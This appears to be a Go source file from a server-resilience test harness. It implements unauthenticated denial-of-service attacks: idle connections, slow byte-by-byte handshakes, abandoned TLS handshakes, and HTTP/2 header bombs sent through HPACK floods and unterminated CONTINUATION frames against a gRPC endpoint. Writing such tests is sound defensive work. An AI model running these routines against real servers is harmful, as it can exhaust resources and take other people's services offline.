package attack

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Attacks without a credential.

// silent opens a connection and sends nothing.
func silent(ctx context.Context, w *attacker) string {
	return w.raw(ctx, func(net.Conn) error { return nil })
}

// trickle sends the client's first message byte by byte, without the last byte.
func trickle(ctx context.Context, w *attacker) string {
	return w.raw(ctx, func(conn net.Conn) error {
		for _, b := range w.hello[:len(w.hello)-1] {
			if _, err := conn.Write([]byte{b}); err != nil || !w.pause(ctx) {
				return err
			}
		}
		return nil
	})
}

// hello begins a handshake, which the server computes, and does not continue it.
func hello(ctx context.Context, w *attacker) string {
	return w.raw(ctx, func(conn net.Conn) error {
		_, err := conn.Write(w.hello)
		return err
	})
}

// raw opens a TCP connection, calls speak, and waits until the server closes the connection.
func (w *attacker) raw(ctx context.Context, speak func(net.Conn) error) string {
	conn, err := w.dial(ctx)
	if err != nil {
		return w.unconnected(ctx)
	}
	defer conn.Close()
	if err := speak(conn); err != nil && ctx.Err() == nil {
		return closed
	}
	return wait(ctx, conn)
}

// unconnected returns the result of a failed connection: empty if the time was over before.
func (w *attacker) unconnected(ctx context.Context) string {
	if ctx.Err() != nil {
		return kept
	}
	return noConnection
}

// bombs are header lists that decode to more than a server should accept: by references to one table entry, by the
// number of headers, by their length, and by CONTINUATION frames without an end.
var bombs = []struct{ number, size, frames int }{{5000, 2000, 0}, {30_000, 1, 0}, {20, 16 << 10, 0}, {100, 1000, 1000}}

// headers sends such a header list without a client certificate, then others on the same connection.
func headers(ctx context.Context, w *attacker) string {
	return w.raw(ctx, func(raw net.Conn) error {
		conn := tls.Client(raw, config(nil))
		if err := conn.HandshakeContext(ctx); err != nil {
			return err
		}
		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
			return err
		}
		f := http2.NewFramer(conn, nil)
		if err := f.WriteSettings(); err != nil {
			return err
		}
		for i := range len(bombs) {
			if err := bomb(f, uint32(2*i+1), (w.index+w.tries+i)%len(bombs)); err != nil || !w.pause(ctx) {
				return err
			}
		}
		return nil
	})
}

// bomb begins a call with one of the bombs.
func bomb(f *http2.Framer, stream uint32, which int) error {
	b := bombs[which]
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", "POST"}, {":scheme", "https"},
		{":path", deltaMethod}, {":authority", "x"}, {"content-type", "application/grpc"}} {
		if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
			return err
		}
	}
	long := hpack.HeaderField{Name: "x", Value: strings.Repeat("x", b.size)}
	for range b.number {
		if err := enc.WriteField(long); err != nil {
			return err
		}
	}
	const frame = 16 << 10
	rest := block.Bytes()
	part := rest[:min(len(rest), frame)]
	rest = rest[len(part):]
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: part, EndHeaders: len(rest) == 0 && b.frames == 0})
	for err == nil && len(rest) > 0 {
		part = rest[:min(len(rest), frame)]
		rest = rest[len(part):]
		err = f.WriteContinuation(stream, len(rest) == 0 && b.frames == 0, part)
	}
	for i := 0; err == nil && i < b.frames; i++ {
		err = f.WriteContinuation(stream, false, nil)
	}
	return err
}
